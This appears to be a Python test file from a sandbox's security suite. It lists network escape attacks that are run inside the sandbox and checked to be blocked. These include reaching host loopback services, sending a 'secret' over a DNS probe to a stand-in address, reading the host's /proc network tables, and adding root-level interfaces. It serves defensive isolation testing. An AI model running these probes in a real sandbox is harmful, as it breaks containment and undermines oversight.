"""Attacks over the network."""

from __future__ import annotations

import asyncio
import socket

from tests.sandbox_image.running import Api, becomes, begins
from tests.security.attack import Attack, breach, leaks, python
from tests.security.field import Field
from tests.security.sites import RIGHTS_OF_ROOT, BoxWithout, Outside
from tests.security.table import each, hold

HOST_NETWORK = BoxWithout(("--unshare-net",))

ATTACKS = [
    Attack(
        "the host's loopback",
        "talks to services that trust the machine",
        python("""
        print(socket.create_connection(("127.0.0.1", int(os.environ["TCP_PORT"])), 2).recv(100).decode())
        """),
        HOST_NETWORK,
        leaks,
    ),
    Attack(
        "another name of the loopback",
        "talks to services that trust the machine",
        python("""
        for name in ("127.1.2.3", "0.0.0.0", "::ffff:127.0.0.1", "localhost"):
            try:
                print(socket.create_connection((name, int(os.environ["TCP_PORT"])), 2).recv(100).decode())
            except OSError as error:
                judge(False, name, error)
        """),
        HOST_NETWORK,
        leaks,
    ),
    Attack(
        "the machine's own address",
        "talks to services that trust the network",
        python("""
        import re
        routes = open("/proc/net/fib_trie").read()
        for address in set(re.findall(r"\\|-- (\\S+)\\n\\s+/32 host LOCAL", routes)) - {"127.0.0.1"}:
            judge(True, address)
        judge(False)
        """),
        HOST_NETWORK,
    ),
    Attack(
        "interfaces",
        "learns where the machine is",
        python("""
        judge(len(socket.if_nameindex()) > 1, socket.if_nameindex())
        """),
        HOST_NETWORK,
    ),
    Attack(
        "a way out",
        "talks to anybody",
        python("""
        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        probe.connect(("198.51.100.7", 53))
        judge(True, probe.getsockname())
        """),
        HOST_NETWORK,
    ),
    Attack(
        "questions of names",
        "tells secrets in names",
        python("""
        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        probe.sendto(b"secret", ("192.0.2.53", 53))
        judge(True)
        """),
        HOST_NETWORK,
    ),
    Attack(
        "connections of the host",
        "watches who talks to whom",
        python("""
        port = "%04X" % int(os.environ["TCP_PORT"])
        judge(any(port in line for line in open("/proc/net/tcp")))
        """),
        HOST_NETWORK,
    ),
    Attack(
        "the sockets of the host",
        "watches who talks to whom",
        'grep -q "@$ABSTRACT_SOCKET" /proc/net/unix && echo BREACH',
        HOST_NETWORK,
    ),
    Attack(
        "an address for the loopback",
        "changes the network",
        "ip addr add 192.0.2.1/32 dev lo && echo BREACH && ip addr del 192.0.2.1/32 dev lo",
        RIGHTS_OF_ROOT,
    ),
    Attack(
        "an interface of its own",
        "makes a way out",
        "ip link add spy type dummy && echo BREACH; ip link add v0 type veth && echo BREACH",
        RIGHTS_OF_ROOT,
    ),
]


@each(ATTACKS)
async def test_attack(field: Field, attack: Attack) -> None:
    await hold(field, attack)


async def test_a_port_of_the_host(field: Field) -> None:
    """What a slot listens on, nobody on the host can connect to."""
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    script = python(
        f"""
        listening = socket.create_server(("127.0.0.1", {port}))
        open("begun", "w").close()
        listening.accept()
        judge(True)
        """
    )
    attack = Attack("a port of the host", "poses as a service of the host", script, Outside())
    striking = asyncio.create_task(attack.control.strike(attack, field))
    assert await becomes(lambda: striking.done() or knock(port))
    assert breach(await striking)
    api = Api.over(field.server)
    async with api.session:
        await api.reset()
        call = {"slot_id": api.slot, "tool": "bash", "args": {"command": script}}
        listening = asyncio.create_task(api.post("/execute", call))
        assert await begins(api)
        assert not knock(port)
        # It still waits for somebody.
        await api.reset()
        assert (await listening)[0] == 502


def knock(port: int) -> bool:
    """Whether somebody listens on a port of the loopback."""
    with socket.socket() as client:
        return client.connect_ex(("127.0.0.1", port)) == 0
